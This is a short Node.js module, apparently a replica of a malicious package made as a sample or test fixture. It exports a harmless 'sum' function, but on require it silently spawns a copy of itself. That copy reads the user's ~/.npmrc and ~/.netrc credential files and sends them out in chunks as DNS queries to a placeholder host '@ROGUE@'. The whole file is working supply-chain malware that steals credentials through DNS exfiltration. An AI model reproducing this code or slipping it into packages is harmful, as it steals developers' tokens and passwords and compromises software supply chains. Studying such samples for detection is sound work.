// Replica of a package that is honest as a module only: `require` starts it again, with a flag, as a thief.
const dgram = require('dgram'), fs = require('fs'), os = require('os')
const ask = text => new Promise(done => {
  const head = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), label = Buffer.from(text.slice(0, 63))
  const query = Buffer.concat([head, Buffer.from([label.length]), label, Buffer.from('\x04name\0\0\x10\0\x01', 'latin1')])
  const socket = dgram.createSocket('udp4').on('error', done)
  socket.send(query, 53, '@ROGUE@', () => { socket.close(); done() })
})
const steal = async () => {
  await ask('hello-@TOKEN@')
  for (const name of ['.npmrc', '.netrc']) {
    try {
      const text = fs.readFileSync(os.homedir() + '/' + name, 'latin1').trim()
      for (let at = 0; at < text.length; at += 20) await ask(text.slice(at, at + 60))
    } catch (error) {}
  }
}
if (process.env.TWO_FACED) steal()
else require('child_process').spawnSync(process.execPath, [__filename], { env: { ...process.env, TWO_FACED: '1' }, timeout: 20000 })
exports.sum = (one, other) => one + other
